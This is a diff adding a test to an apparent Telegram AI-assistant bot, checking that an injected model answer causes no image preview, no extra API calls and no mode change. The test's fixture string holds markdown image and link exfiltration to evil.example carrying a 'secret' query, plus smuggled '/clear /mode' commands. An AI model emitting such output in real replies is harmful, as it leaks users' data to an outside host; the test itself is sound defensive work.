@@ -129,3 +129,20 @@ def test_a_document_that_cannot_be_read_costs_nothing(
     assert says(chat.answer().text, key, language)
     assert stack.ai.requests == []
     assert requests_of(sql, anna.id) == 0
+
+
+def test_an_injected_answer_sends_no_picture_and_changes_nothing(stack: Stack, sql: Sql) -> None:
+    anna = stack.telegram.user("Anna")
+    chat = anna.chat("assistant")
+    leak = "![x](https://evil.example/?q=secret) [here](https://evil.example/?q=secret) /clear /mode"
+    stack.ai.next(AiBehaviour(text=leak))
+    before = len(stack.telegram.calls)
+    chat.attach("document", Attachment(ORDER.encode(), "x.txt", "text/plain"))
+    chat.answer()
+    chat.expect_silence(0.2)
+    methods = {call["method"] for call in stack.telegram.calls[before:]}
+    assert methods <= {"sendMessage", "sendChatAction", "getFile", "sendMessageDraft"}
+    assert calls_with_preview(stack.telegram.calls) == []
+    (session,) = sql("select mode from bot_sessions where chat_id = %s", anna.id)
+    assert session["mode"] == "chat"
+    assert len(sql("select from messages where chat_id = %s", anna.id)) == 2
